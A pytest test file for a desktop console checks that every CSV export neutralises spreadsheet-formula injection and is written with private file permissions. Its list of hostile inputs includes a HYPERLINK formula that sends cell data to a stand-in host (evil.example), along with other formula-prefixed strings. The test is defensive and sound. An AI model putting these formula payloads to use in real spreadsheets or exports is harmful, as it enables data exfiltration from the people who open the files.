"""Spec: no CSV the console writes can run as a spreadsheet formula.

Hostile text in every free-text field the exports carry (complaint summaries and
owners, partner and depot codes and names) comes out quoted with a leading
``'``; numbers stay numbers; the files are private (0600).
"""

from __future__ import annotations

import csv
import os
import stat
from pathlib import Path

import pytest
from PySide6.QtCore import QSettings
from pytestqt.qtbot import QtBot
from sqlalchemy import Engine, update
from sqlalchemy.orm import Session

from console.core.quality import ComplaintCategory
from console.core.vocab import RequestStatus
from console.db.backend import DatabaseBackend
from console.db.models import Depot, Partner
from console.ui.dashboard import DashboardWindow
from console.ui.dashboard.tables import RecordTable
from tests.ui.test_dashboard import dashboard, history  # noqa: F401  (fixtures)

HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"details")', "+1", "-2+3", "@SUM(A1:A9)",
           "\t=1", "\r=1"]  # fmt: skip
PRINTABLE = [text for text in HOSTILE if text.isprintable()]
"""What the service layer lets through (it refuses control characters)."""


def cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def assert_neutralised(found: list[str], expected: list[str]) -> None:
    for cell in found:
        assert cell not in HOSTILE, cell
        if cell.startswith(("=", "@", "\t", "\r")):
            pytest.fail(f"formula cell {cell!r}")
        if cell.startswith(("+", "-")):
            assert is_number(cell) and cell not in HOSTILE, cell
    for text in expected:
        assert any(cell.startswith("'" + text) for cell in found), text


@pytest.mark.ledger_tampered  # partner and depot names are edited in place
def test_every_dashboard_csv_export_neutralises_hostile_text(
    qtbot: QtBot,
    qsettings: QSettings,
    history: tuple[Engine, DatabaseBackend],  # noqa: F811
    dashboard: DashboardWindow,  # noqa: F811
    tmp_path: Path,
) -> None:
    engine, backend = history
    data = dashboard.data
    assert data is not None
    closed = [j for j in data.jobs if j.status is RequestStatus.COMPLETED]
    for job, text in zip(closed, PRINTABLE, strict=False):
        backend.open_complaint(job.id, next(iter(ComplaintCategory)), text, text)
    with Session(engine) as session, session.begin():
        partners = list(session.scalars(Partner.__table__.select().with_only_columns(Partner.id)))
        for number, partner_id in enumerate(partners):
            text = HOSTILE[number % len(HOSTILE)]
            session.execute(update(Partner).where(Partner.id == partner_id).values(
                code=f"{text}#{number}", name_en=text, name_zh=text))  # fmt: skip
        depots = list(session.scalars(Depot.__table__.select().with_only_columns(Depot.id)))
        for number, depot_id in enumerate(depots):
            text = HOSTILE[number % len(HOSTILE)]
            session.execute(update(Depot).where(Depot.id == depot_id).values(
                code=f"{text}#{number}", name_en=text, name_zh=text))  # fmt: skip
    dashboard.refresh()
    qtbot.waitUntil(lambda: dashboard.data is not None and len(dashboard.data.complaints)
                    >= len(PRINTABLE), timeout=10_000)  # fmt: skip

    report = tmp_path / "report.csv"
    dashboard.export_report_csv(report)
    assert_neutralised(cells(report), HOSTILE)
    expected = {
        "complaintsTable": PRINTABLE,
        "partnerScorecards": HOSTILE,
        "depotScorecards": HOSTILE,
        "recentJobs": [],
    }
    for index in range(dashboard.tabs.count()):
        table = dashboard.tabs.widget(index)
        assert isinstance(table, RecordTable)
        path = tmp_path / f"{table.objectName()}.csv"
        table.export_csv(path)
        assert_neutralised(cells(path), expected[table.objectName()])
        if os.name == "posix":
            assert stat.S_IMODE(path.stat().st_mode) == 0o600
